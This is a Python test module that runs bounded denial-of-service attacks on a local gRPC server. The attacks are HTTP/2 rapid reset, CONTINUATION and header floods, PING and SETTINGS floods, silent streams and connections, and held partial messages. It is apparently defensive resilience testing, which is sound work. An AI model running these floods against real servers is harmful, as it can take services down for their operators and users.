"""Attacks over gRPC: worst messages by gRPC's own client, and frames of HTTP/2 that no client library would send.

Each is bounded in count and time, and leaves nothing open.
"""

from __future__ import annotations

import itertools
import socket
import struct
import time
from collections import Counter
from collections.abc import Iterable, Iterator

import grpc

from tests.faults import bodies
from tests.faults.sending import ANSWER_SECONDS, Outcomes, Target, at_once, send_for
from tests.http2 import ACK, DATA, END_HEADERS, HEADERS, PREFACE, SETTINGS, frame, literal

RST_STREAM, PING, GO_AWAY, WINDOW_UPDATE, CONTINUATION = 3, 6, 7, 8, 9
INITIAL_WINDOW = 4  # a setting
CANCEL = struct.pack(">I", 8)
# The largest payload of a frame that a server must take (RFC 9113, section 4.2).
LARGEST_FRAME = 16_384
# A window before the server's settings are known (RFC 9113, section 6.9.2).
FIRST_WINDOW = 65_535
METHOD = "/inference.GRPCInferenceService/ModelInfer"

MANY_ROUNDS = 25
RAPID_CONNECTIONS = 8
RAPID_SECONDS = 5.0
FLOOD_SECONDS = 5.0
# In one block of headers.
FLOOD_BYTES = 300 * 2**20
SILENT_STREAMS = 1000
SILENT_SECONDS = 5.0
UNFINISHED_CONNECTIONS = 87
UNFINISHED_SECONDS = 10.0

HEAD = b"".join(
    literal(*header)
    for header in {
        ":method": "POST",
        ":scheme": "http",
        ":path": METHOD,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }.items()
)
BEGINNING = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(SETTINGS, ACK, 0, b"")


def worst_message(target: Target, name: str) -> Outcomes:
    """A message of ``bodies.MESSAGES``; the outcome is the name of gRPC's status."""
    return _messages(target, [bodies.MESSAGES[name]()])


def many_messages(target: Target) -> Outcomes:
    """All of ``bodies.MESSAGES`` without a pause, again and again: 600 MB, of which nothing may stay."""
    return _messages(target, [build() for build in bodies.MESSAGES.values()] * MANY_ROUNDS)


def _messages(target: Target, messages: Iterable[bytes]) -> Outcomes:
    outcomes: Outcomes = Counter()
    with grpc.insecure_channel(f"127.0.0.1:{target.grpc_port}", [("grpc.use_local_subchannel_pool", 1)]) as channel:
        call = channel.unary_unary(METHOD)
        for message in messages:
            try:
                call(message, timeout=ANSWER_SECONDS)
                outcomes["OK"] += 1
            except grpc.RpcError as error:
                outcomes[error.code().name] += 1
    return outcomes


def _streams() -> Iterator[int]:
    """The numbers of a client's streams."""
    return itertools.count(1, 2)


def _flood(target: Target, chunks: Iterator[bytes], seconds: float) -> str:
    try:
        with target.connect(grpc=True) as client:
            client.sendall(BEGINNING)
            return send_for(client, chunks, seconds)
    except OSError:
        return "refused"


def rapid_reset(target: Target) -> Outcomes:
    """Streams that are opened and cancelled at once, on 8 connections that are opened again when they are closed."""
    end = time.monotonic() + RAPID_SECONDS

    def chunks() -> Iterator[bytes]:
        streams = _streams()
        while True:
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, HEAD) + frame(RST_STREAM, 0, stream, CANCEL)
                for stream in itertools.islice(streams, 50)
            )

    def reset() -> str:
        outcome = "time over"
        while time.monotonic() < end:
            outcome = _flood(target, chunks(), end - time.monotonic())
        return outcome

    return at_once([reset] * RAPID_CONNECTIONS)


def headers_without_end(target: Target) -> Outcomes:
    """One block of headers of 300 MB, in CONTINUATION frames."""
    # A header of 8,000 bytes, whose length is 127 + 0x41 + 0x3d * 128 (RFC 7541, section 5.1).
    block = b"\0\x04long\x7f\xc1\x3d" + b"a" * 8000
    first = frame(HEADERS, 0, 1, HEAD)
    more = frame(CONTINUATION, 0, 1, block)
    return Counter([_flood(target, itertools.chain([first], itertools.repeat(more, FLOOD_BYTES // len(block))), 30.0)])


def empty_continuations(target: Target) -> Outcomes:
    """Empty CONTINUATION frames without an end."""
    first = frame(HEADERS, 0, 1, HEAD)
    more = frame(CONTINUATION, 0, 1, b"") * 1000
    return Counter([_flood(target, itertools.chain([first], itertools.repeat(more)), FLOOD_SECONDS)])


def pings(target: Target) -> Outcomes:
    """PING frames, each of which asks for an answer."""
    return Counter([_flood(target, itertools.repeat(frame(PING, 0, 0, b"12345678") * 1000), FLOOD_SECONDS)])


def settings(target: Target) -> Outcomes:
    """SETTINGS frames, each of which asks for an answer."""
    return Counter([_flood(target, itertools.repeat(frame(SETTINGS, 0, 0, b"") * 1000), FLOOD_SECONDS)])


def silent_streams(target: Target) -> Outcomes:
    """1,000 streams of one connection that send headers and no message."""
    heads = (frame(HEADERS, END_HEADERS, stream, HEAD) for stream in itertools.islice(_streams(), SILENT_STREAMS))
    # A PING of an acknowledgement that nobody sent is dropped; it keeps the connection sending, and so reading.
    kept = itertools.repeat(frame(PING, ACK, 0, b"12345678"))
    return Counter([_flood(target, itertools.chain(heads, _slowly(kept)), SILENT_SECONDS)])


def _slowly(chunks: Iterator[bytes]) -> Iterator[bytes]:
    for chunk in chunks:
        time.sleep(0.1)
        yield chunk


def silent_connections(target: Target) -> Outcomes:
    """Connections that send the preface and no more."""
    kept = itertools.repeat(frame(PING, ACK, 0, b"12345678"))
    return at_once([lambda: _flood(target, _slowly(kept), SILENT_SECONDS)] * UNFINISHED_CONNECTIONS)


def unfinished_messages(target: Target) -> Outcomes:
    """Messages of 4 MB less a byte on 87 connections, held together."""
    message = bodies.unfinished_message()
    deadline = time.monotonic() + UNFINISHED_SECONDS
    return at_once([lambda: _unfinished(target, message, deadline)] * UNFINISHED_CONNECTIONS)


def _unfinished(target: Target, message: bytes, deadline: float) -> str:
    """Send as much of a message as the server's windows allow, and hold the connection until the deadline."""
    try:
        with target.connect(grpc=True) as client:
            client.sendall(BEGINNING + frame(HEADERS, END_HEADERS, 1, HEAD))
            windows = {0: FIRST_WINDOW, 1: FIRST_WINDOW}
            received, sent = b"", 0
            while (left := deadline - time.monotonic()) > 0:
                room = min(*windows.values(), LARGEST_FRAME, len(message) - sent)
                if room > 0:
                    client.settimeout(left)
                    client.sendall(frame(DATA, 0, 1, message[sent : sent + room]))
                    sent += room
                    windows = {stream: window - room for stream, window in windows.items()}
                    continue
                client.settimeout(left)
                received += (chunk := client.recv(65_536))
                if not chunk:
                    return "closed"
                received = _read_windows(client, received, windows)
                if windows[1] < 0:
                    return "reset"
    except TimeoutError:
        pass
    except OSError:
        return "reset"
    return "held" if sent == len(message) else "held in part"


def _read_windows(client: socket.socket, received: bytes, windows: dict[int, int]) -> bytes:
    """Apply the frames that were received; what is left is the beginning of another one.

    The window of the stream is negative once the server has ended it.
    """
    while len(received) >= 9:
        size, kind = int.from_bytes(received[:3], "big"), received[3]
        flags, stream = received[4], int.from_bytes(received[5:9], "big")
        if len(received) < 9 + size:
            break
        payload, received = received[9 : 9 + size], received[9 + size :]
        if kind == WINDOW_UPDATE:
            windows[stream] = windows.get(stream, 0) + int.from_bytes(payload, "big")
        elif kind == SETTINGS and not flags & ACK:
            for start in range(0, size, 6):
                name, value = struct.unpack(">HI", payload[start : start + 6])
                if name == INITIAL_WINDOW:
                    windows[1] += value - FIRST_WINDOW
        elif kind == PING and not flags & ACK:
            client.sendall(frame(PING, ACK, 0, payload))
        elif kind in (RST_STREAM, GO_AWAY) or (kind == HEADERS and flags & 1):
            windows[1] = -(2**40)
    return received
